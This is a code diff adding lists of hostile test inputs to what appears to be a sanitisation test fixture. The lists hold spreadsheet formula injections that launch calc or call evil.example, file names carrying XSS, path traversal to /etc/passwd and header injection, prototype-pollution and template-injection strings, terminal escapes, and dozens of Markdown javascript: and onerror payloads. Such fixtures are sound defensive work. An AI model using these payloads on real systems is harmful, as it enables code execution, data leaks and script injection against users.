@@ -88,6 +88,88 @@ const PICTURES = [
   `- ![x](${ASK})\n> ![x](${ASK})`,
 ];
 
+/** Cells that a spreadsheet takes for formulas. */
+const FORMULAS = [
+  `=cmd|' /C calc'!A0`,
+  `=HYPERLINK("${ASK}&"&A1,"clique")`,
+  `=IMPORTXML("${ASK}","//a")`,
+  `=WEBSERVICE("${ASK}")`,
+  `=IMAGE("${ASK}")`,
+  `+cmd|' /C calc'!A0`,
+  `-2+3+cmd|' /C calc'!A0`,
+  `@SUM(1+1)*cmd|' /C calc'!A0`,
+  `\t=WEBSERVICE("${ASK}&tab")`,
+  `\r=WEBSERVICE("${ASK}&return")`,
+  `;=WEBSERVICE("${ASK}&semicolon")`,
+  `"=WEBSERVICE(""${ASK}&quoted"")"`,
+];
+
+/** Names of files. */
+const FILE_NAMES = [
+  `"><img src=x onerror="${RUN}">.pdf`,
+  `<svg onload=${RUN}>.csv`,
+  `';${RUN};'.docx`,
+  '../../../../etc/passwd.txt',
+  '..\\..\\windows\\win.ini.txt',
+  'fatura\u202Efdp.exe.txt',
+  'a\u2028b\u2029c.txt',
+  '\u200B\u2066oculto\u2069.pdf',
+  'nome; filename="outro.html".pdf',
+  `${'x'.repeat(120)}<script>${RUN}</script>.pdf`,
+];
+
+/** Names that mean something to JavaScript, to templates or to a terminal. */
+const NAMES = [
+  '__proto__',
+  'constructor',
+  'toString',
+  'hasOwnProperty',
+  '{"__proto__":{"hacked":1}}',
+  `{{=<% %>=}}<%${RUN}%>`,
+  `<%= ${RUN} %>`,
+  `#{${RUN}}`,
+  `[[${RUN}]]`,
+  `\u001b]0;${RUN}\u0007`,
+  `\u001b[31m${RUN}\u001b[0m`,
+  `%3Cscript%3E${RUN}%3C/script%3E`,
+  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
+  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
+];
+
+/** Markdown around markup, and addresses where Markdown has places for them. */
+const MARKDOWN = [
+  `[x]: javascript:${RUN}\n\n[x]`,
+  `[x][y]\n\n[y]: javascript:${RUN}`,
+  `[x](<javascript:${RUN}>)`,
+  `[x]( javascript:${RUN} "título")`,
+  `[x](java&#x73;cript:${RUN})`,
+  `[x](javascript&#58;${RUN})`,
+  `[x](java\nscript:${RUN})`,
+  `[x](https://a.example/\\"onmouseover=${RUN})`,
+  `[<img src=x onerror=${RUN}>](https://a.example/)`,
+  `[x](https://a.example/ "<img src=x onerror=${RUN}>")`,
+  `https://a.example/"onmouseover="${RUN}`,
+  `https://a.example/<script>${RUN}</script>`,
+  `mailto:a@b.example?body=<script>${RUN}</script>`,
+  `# <img src=x onerror=${RUN}>`,
+  `- [ ] <img src=x onerror=${RUN}>`,
+  `- [x] <svg onload=${RUN}>`,
+  `1. <iframe src="javascript:${RUN}"></iframe>`,
+  `> <object data="${ASK}"></object>`,
+  `| <img src="${ASK}"> | b |\n|---|---|\n| <svg onload=${RUN}> | d |`,
+  `~~<img src=x onerror=${RUN}>~~`,
+  `_<script>${RUN}</script>_`,
+  `\`<script>${RUN}</script>`,
+  `\`\`\`"onmouseover="${RUN}\ncode\n\`\`\``,
+  `\`\`\`<script>${RUN}</script>`,
+  `$$<img src=x onerror=${RUN}>$$`,
+  `\\[<img src="${ASK}">\\]`,
+  `[^1]\n\n[^1]: <img src="${ASK}">`,
+  `<https://a.example/><img src=x onerror=${RUN}>`,
+  `***<script>${RUN}</script>***`,
+  `\\<script\\>${RUN}\\</script\\>`,
+];
+
 /**
  * Texts that do harm where a page takes them for more than text: each sets `window.hacked` when it is run, or asks
  * evil.example for something when it is loaded.
@@ -102,4 +184,8 @@ export const HOSTILE_TEXTS: readonly string[] = [
   ...PICTURES,
   ...MARKUP.slice(0, 12).map((text) => `\`\`\`html\n${text}\n\`\`\``),
   ...MARKUP.slice(0, 12).map((text) => `**${text}** | \`${text}\``),
+  ...FORMULAS,
+  ...FILE_NAMES,
+  ...NAMES,
+  ...MARKDOWN,
 ];
